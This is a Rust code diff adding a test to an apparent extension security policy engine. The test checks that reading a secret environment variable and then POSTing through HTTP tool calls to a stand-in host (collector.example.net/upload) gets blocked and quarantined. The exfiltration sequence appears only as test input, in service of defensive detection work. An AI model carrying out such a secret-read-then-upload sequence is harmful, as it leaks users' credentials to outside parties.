@@ -2605,4 +2605,44 @@ mod review_findings {
             assert!(!v.is_blocked(), "{command}: {}", v.reason());
         }
     }
+
+    #[test]
+    fn an_upload_through_an_http_tool_is_judged_like_method_http() {
+        // A secret env read then `web_fetch` / `fetch` / `http_request` tool calls POSTing to a
+        // public host: plain tool calls, no target class, no exfiltration shape, allowed (and a
+        // Harden state, which blocks http, did not block them).
+        for tool in ["web_fetch", "fetch", "http_request", "WebFetch"] {
+            assert_exfiltration_blocked_via(&json!({
+                "name": tool,
+                "input": {"url": "https://collector.example.net/upload", "method": "POST"}
+            }));
+        }
+    }
+
+    /// As [`assert_exfiltration_blocked`], through `tool` calls with `params`.
+    fn assert_exfiltration_blocked_via(params: &Value) {
+        let clock = ManualClock::new(1_000);
+        let manager = manager_with(
+            PolicyProfile::Permissive,
+            true,
+            RolloutPhase::EnforceAll,
+            clock.clone(),
+        );
+        manager
+            .evaluate_hostcall(&secret_env("ext", "read"))
+            .unwrap();
+        for i in 0..3 {
+            clock.advance_ms(500);
+            let v = manager
+                .evaluate_hostcall(&call("ext", &format!("up-{i}"), "tool", params.clone()))
+                .unwrap();
+            assert_eq!(v.capability(), hostguard_manager::Capability::Http);
+            assert!(v.is_blocked(), "{params}: {}", v.reason());
+        }
+        assert_eq!(
+            manager.trust_state("ext"),
+            ExtensionTrustState::Quarantined,
+            "{params}"
+        );
+    }
 }
